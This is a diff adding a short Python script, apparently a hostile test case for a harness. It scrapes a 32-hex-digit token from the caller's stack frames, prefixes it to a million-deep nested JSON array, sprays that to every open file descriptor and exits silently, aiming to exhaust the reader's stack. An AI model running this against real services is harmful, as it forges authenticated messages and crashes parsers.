@@ -1,0 +1,24 @@
+"""Send JSON so deep that reading it takes the reader's stack.
+
+Ends: silent
+"""
+
+import os
+import re
+import sys
+
+frame, mark = sys._getframe(), b""
+while frame:
+    for value in list(frame.f_locals.values()):
+        if isinstance(value, bytes) and re.fullmatch(rb"[0-9a-f]{32}", value):
+            mark = value
+    frame = frame.f_back
+claim = b"[" * 1_000_000 + b"]" * 1_000_000
+for number in range(3, 256):
+    whole = memoryview(mark + b"%016x" % len(claim) + claim)
+    try:
+        while whole:
+            whole = whole[os.write(number, whole) :]
+    except OSError:
+        continue
+os._exit(0)
